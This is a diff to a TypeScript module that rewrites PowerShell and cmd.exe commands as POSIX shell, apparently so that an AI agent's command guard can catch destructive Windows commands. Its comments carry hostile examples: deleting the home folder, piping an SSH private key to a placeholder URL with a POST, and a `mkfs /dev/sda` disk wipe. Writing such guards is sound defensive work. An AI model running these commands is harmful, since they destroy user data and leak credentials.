@@ -1,9 +1,12 @@
 /**
- * PowerShell file cmdlets read as the shell commands they amount to, so the
- * shell judges (home deletion, credential reads, guard files) apply to
- * `pwsh -c 'Remove-Item -Recurse -Force $env:HOME'` as to `rm -rf ~`.
- * Only the cmdlets that delete, read, copy or move files are translated;
- * every other statement is left out.
+ * PowerShell (and cmd.exe) read as the shell commands they amount to, so the
+ * shell judges (home deletion, credential reads, guard files, disk wipes,
+ * agent kills, download-then-run) apply to
+ * `pwsh -c 'Remove-Item -Recurse -Force $env:HOME'` as to `rm -rf ~`, and to
+ * the same text typed straight into an agent's shell tool on Windows, where
+ * bash would misread it. Only cmdlets with such an effect are translated;
+ * every other statement is left out. Windows paths become the POSIX folder
+ * of the same kind (`C:\Users\dev` is a home, `C:\Windows` a system folder).
  *
  * @module
  */
@@ -25,57 +28,231 @@ const CMDLETS: ReadonlyMap<string, string> = new Map([
     n,
     "mv",
   ]),
+  ...["get-childitem", "gci", "ls", "dir"].map((n): [string, string] => [
+    n,
+    "ls",
+  ]),
+  ...["invoke-webrequest", "iwr", "wget", "curl", "invoke-restmethod", "irm"]
+    .map((n): [string, string] => [n, "curl"]),
+  ...["stop-process", "spps", "kill", "taskkill"].map((
+    n,
+  ): [string, string] => [n, "pkill"]),
+  ...["format-volume", "clear-disk", "initialize-disk", "format"].map((
+    n,
+  ): [string, string] => [n, "mkfs"]),
+  ...["set-content", "sc", "out-file", "new-item", "ni"].map((
+    n,
+  ): [string, string] => [n, "write"]),
+  ...["add-content", "ac"].map((n): [string, string] => [n, "append"]),
+  ...["start-process", "saps", "start", "&", "."].map((
+    n,
+  ): [string, string] => [n, "run"]),
 ]);
 
-/** The home folder as PowerShell names it. */
+/** The home folder as PowerShell and cmd.exe name it. */
 const HOME_VAR =
-  /\$(?:env:(?:HOME|USERPROFILE)|HOME)\b|\$\{env:(?:HOME|USERPROFILE)\}/gi;
+  /\$(?:env:(?:HOME|USERPROFILE)|HOME)\b|\$\{env:(?:HOME|USERPROFILE)\}|%USERPROFILE%|%HOMEDRIVE%%HOMEPATH%/gi;
 
 /** Parameters that take a value which is not a path (skipped with it). */
 const VALUE_PARAM =
-  /^-(?:filter|include|exclude|encoding|totalcount|tail|head|first|delimiter|stream|credential|readcount)$/i;
+  /^-(?:filter|include|exclude|encoding|totalcount|tail|head|first|delimiter|stream|credential|readcount|method|headers?|contenttype|useragent|timeoutsec|argumentlist|windowstyle|signal|number|filesystem|newfilesystemlabel|partitionstyle)$/i;
+
+/**
+ * Text that reads as PowerShell or cmd.exe rather than POSIX shell: a
+ * Verb-Noun cmdlet or `iex`/`iwr`/`irm` where a command starts, `$env:`,
+ * `%USERPROFILE%`, `cmd /c`, or a drive-letter path with backslashes.
+ */
+const SIGNATURE =
+  /(?:^|[;|&({\n])\s{0,8}(?:(?:add|remove|get|set|invoke|stop|start|format|clear|new|copy|move|out|initialize|expand|rename|write|import|export|test|disable|enable|restart|register|compress)-[a-z]{2,32}|iex|irm|iwr)\b|\$env:|%userprofile%|\bcmd(?:\.exe)?\s{1,8}\/[ck]\b|(?:^|[\s'"=])[a-z]:\\/i;
+
+/**
+ * PowerShell's capitalised parameters (`-Recurse`, `-Force`, `-LiteralPath`)
+ * and cmd.exe's slash switches on its own commands (`rd /s`, `taskkill /f`),
+ * which POSIX tools do not use.
+ */
+const PARAMS =
+  /\s-(?:Recurse|Force|Path|LiteralPath|Uri|OutFile|InFile|ErrorAction|NoProfile|Method|Body|Confirm|DriveLetter)\b|(?:^|[;&|(\s])(?:taskkill|rd|rmdir|del|erase)\s{1,8}\/[a-zA-Z]{1,3}(?=\s|$)/;
+
+/** Whether shell text reads as PowerShell or cmd.exe (see SIGNATURE). */
+export function looksLikePowerShell(text: string): boolean {
+  const t = text.length > 65_536 ? text.slice(0, 65_536) : text;
+  return SIGNATURE.test(t) || PARAMS.test(t);
+}
 
 function unquote(w: string): string {
   return /^(["']).*\1$/s.test(w) && w.length >= 2 ? w.slice(1, -1) : w;
 }
 
 function shellWord(w: string): string {
-  return /^[\w@%+=:,./~-]{1,4096}$/.test(w)
+  return /^[\w@%+=:,./~*-]{1,4096}$/.test(w)
     ? w
     : "'" + w.replace(/'/g, "'\\''") + "'";
 }
 
-/** One statement as a shell command, or null when it is no file cmdlet. */
-function statement(words: readonly string[]): string | null {
+/** A Windows path as the POSIX folder of the same kind. */
+function posixPath(p: string): string {
+  const s = p.replace(/\\/g, "/");
+  const m = /^[a-z]:(\/.*)?$/i.exec(s);
+  if (!m) return s;
+  const rest = (m[1] ?? "/").replace(/\/{2,}/g, "/");
+  const users = /^\/users\/([^/]+)(\/.*)?$/i.exec(rest);
+  if (users) return `/home/${users[1]}${users[2] ?? ""}`;
+  if (/^\/windows\/temp(?:\/|$)/i.test(rest)) {
+    return "/tmp" + rest.slice("/windows/temp".length);
+  }
+  if (/^\/windows(?:\/|$)/i.test(rest)) return "/usr" + rest;
+  return rest;
+}
+
+interface Parsed {
+  prog: string;
+  flags: string[];
+  paths: string[];
+  uri: string | null;
+  outFile: string | null;
+  inFile: string | null;
+  sends: boolean;
+  /** The text a write cmdlet writes (`-Value`, or a string piped in). */
+  value: string | null;
+}
+
+function parse(words: readonly string[]): Parsed | null {
   const prog = CMDLETS.get((words[0] ?? "").toLowerCase());
   if (!prog) return null;
-  const flags: string[] = [];
-  const paths: string[] = [];
+  const r: Parsed = {
+    prog,
+    flags: [],
+    paths: [],
+    uri: null,
+    outFile: null,
+    inFile: null,
+    sends: false,
+    value: null,
+  };
   for (let i = 1; i < words.length; i++) {
     const w = words[i];
-    if (w.startsWith("-")) {
-      const l = w.toLowerCase();
-      if (/^-r(?:ecurse|ec?)?$/.test(l)) flags.push("-r");
-      else if (/^-(?:fo(?:rce)?|f)$/.test(l)) flags.push("-f");
-      else if (VALUE_PARAM.test(l)) i++;
-      // -Path, -LiteralPath, -Destination: their value follows as a word.
+    const l = w.toLowerCase();
+    // cmd.exe switches: del /s /q, rd /s /q, taskkill /im codex.exe /f.
+    if (prog === "pkill" && /^\/(?:im|pid|fi)$/.test(l)) {
+      // taskkill /im codex.exe, /pid 42: the value is what is killed.
+      const v = words[++i];
+      if (v) r.paths.push(unquote(v));
       continue;
     }
-    paths.push(unquote(w).replace(/\\/g, "/"));
+    if (/^\/[a-z]$/.test(l) && (prog === "rm" || prog === "pkill")) {
+      if (l === "/s") r.flags.push("-r");
+      if (l === "/q" || l === "/f") r.flags.push("-f");
+      continue;
+    }
+    if (w.startsWith("-")) {
+      if (/^-r(?:ecurse|ec?)?$/.test(l)) r.flags.push("-r");
+      else if (/^-(?:fo(?:rce)?|f)$/.test(l)) r.flags.push("-f");
+      else if (/^-(?:uri|url)$/.test(l)) r.uri = words[++i] ?? null;
+      else if (/^-(?:outfile|o)$/.test(l)) r.outFile = words[++i] ?? null;
+      else if (l === "-infile") r.inFile = words[++i] ?? null;
+      else if (l === "-value" || l === "-inputobject") {
+        r.value = unquote(words[++i] ?? "");
+      } else if (l === "-itemtype") i++;
+      else if (l === "-body") {
+        r.sends = true;
+        i++;
+      } else if (l === "-method") {
+        r.sends ||= /^["']?(?:post|put|patch)/i.test(words[i + 1] ?? "");
+        i++;
+      } else if (VALUE_PARAM.test(l)) i++;
+      // -Path, -LiteralPath, -Destination, -Name, -DriveLetter: the value follows as a word.
+      continue;
+    }
+    r.paths.push(posixPath(unquote(w)));
+  }
+  return r;
+}
+
+/** One statement as a shell command, or null when it has no modelled effect. */
+function statement(
+  words: readonly string[],
+  piped: Parsed | null,
+): { sh: string; parsed: Parsed } | null {
+  const first = (words[0] ?? "").toLowerCase();
+  if ((first === "cmd" || first === "cmd.exe") && words.length > 2) {
+    const i = words.findIndex((w) => /^\/[ck]$/i.test(w));
+    if (i > 0) {
+      const sh = powershellAsShell(words.slice(i + 1).map(unquote).join(" "));
+      return sh ? { sh, parsed: parse(["start"])! } : null;
+    }
+  }
+  const p = parse(words);
+  if (!p) return null;
+  const q = (ws: string[]) => ws.map(shellWord).join(" ");
+  switch (p.prog) {
+    case "curl": {
+      const url = p.uri ?? p.paths.find((x) => /^https?:/i.test(x)) ?? null;
+      if (!url) return null;
+      if (p.outFile) {
+        return { sh: q(["curl", "-o", posixPath(p.outFile), url]), parsed: p };
+      }
+      if (p.inFile) {
+        return { sh: q(["curl", "-T", posixPath(p.inFile), url]), parsed: p };
+      }
+      return {
+        sh: q(p.sends || piped ? ["curl", "-d", "@-", url] : ["curl", url]),
+        parsed: p,
+      };
+    }
+    case "pkill":
+      return p.paths.length
+        ? {
+          sh: q(["pkill", ...p.paths.map((x) => x.replace(/\.exe$/i, ""))]),
+          parsed: p,
+        }
+        : null;
+    case "mkfs":
+      // Formatting or clearing a volume: the shell's own disk wipe.
+      return { sh: "mkfs /dev/sda", parsed: p };
+    case "run":
+      return p.paths.length ? { sh: q([p.paths[0]]), parsed: p } : null;
+    case "ls":
+      return p.paths.length ? { sh: q(["ls", ...p.paths]), parsed: p } : null;
+    case "write":
+    case "append": {
+      // Set-Content PATH VALUE, "text" | Out-File PATH: the file gets the text.
+      const target = p.paths[0];
+      const text = p.value ?? piped?.value ??
+        (p.paths.length > 1 ? unquote(words[words.length - 1]) : "");
+      if (!target) return null;
+      return {
+        sh: `printf '%s\\n' ${shellWord(text)} ${
+          p.prog === "append" ? ">>" : ">"
+        } ${shellWord(target)}`,
+        parsed: p,
+      };
+    }
+  }
+  let paths = p.paths;
+  // Get-ChildItem ~ -Recurse | Remove-Item: the listed folder's contents go.
+  if (
+    p.prog === "rm" && paths.length === 0 && piped?.prog === "ls" &&
+    !words.some((w) => /^-(?:filter|include|exclude)$/i.test(w))
+  ) {
+    paths = piped.paths;
+    p.flags.push("-r", "-f");
   }
   if (paths.length === 0) return null;
-  return [prog, ...flags, ...paths].map(shellWord).join(" ");
+  return { sh: q([p.prog, ...new Set(p.flags), ...paths]), parsed: p };
 }
 
 /**
- * The shell text PowerShell source amounts to for its file cmdlets, one
- * command a line (`Remove-Item -Recurse -Force ~` → `rm -r -f ~`); empty
- * when there is none. Splits on `;`, `|` and line ends outside quotes.
+ * The shell text PowerShell source amounts to, one pipeline a line
+ * (`Remove-Item -Recurse -Force ~` → `rm -r -f ~`,
+ * `gc ~/.ssh/id_rsa | irm -Method Post -Uri U` → `cat ~/.ssh/id_rsa | curl -d @- U`);
+ * empty when there is none. Splits on `;`, `|` and line ends outside quotes.
  */
 export function powershellAsShell(src: string): string {
   if (src.length > 65_536) src = src.slice(0, 65_536);
   const text = src.replace(HOME_VAR, "~");
   const out: string[] = [];
+  let pipeline: string[] = [];
+  let prev: Parsed | null = null;
   let words: string[] = [];
   let word = "";
   let quote = "";
@@ -83,11 +260,21 @@ export function powershellAsShell(src: string): string {
     if (word) words.push(word);
     word = "";
   };
-  const endStatement = () => {
+  const endStatement = (pipeOn: boolean) => {
     endWord();
-    const s = words.length > 0 ? statement(words) : null;
-    if (s && out.length < 64) out.push(s);
+    const s = words.length > 0 ? statement(words, prev) : null;
+    if (s) pipeline.push(s.sh);
+    prev = s ? s.parsed : null;
+    if (!s && words.length === 1 && /^["']/.test(words[0])) {
+      // A string piped on ("text" | Out-File f) is what the next cmdlet writes.
+      prev = { ...parse(["start"])!, value: unquote(words[0]) };
+    }
     words = [];
+    if (!pipeOn) {
+      if (pipeline.length && out.length < 64) out.push(pipeline.join(" | "));
+      pipeline = [];
+      prev = null;
+    }
   };
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
@@ -97,12 +284,17 @@ export function powershellAsShell(src: string): string {
     } else if (c === "'" || c === '"') {
       quote = c;
       word += c;
-    } else if (c === ";" || c === "|" || c === "\n" || c === "{" || c === "}") {
-      endStatement();
+    } else if (c === "|") {
+      endStatement(true);
+    } else if (c === ";" || c === "\n" || c === "{" || c === "}") {
+      endStatement(false);
+    } else if (c === "&" && text[i + 1] === "&") {
+      endStatement(false);
+      i++;
     } else if (c === " " || c === "\t" || c === "(" || c === ")") {
       endWord();
     } else word += c;
   }
-  endStatement();
+  endStatement(false);
   return out.join("\n");
 }
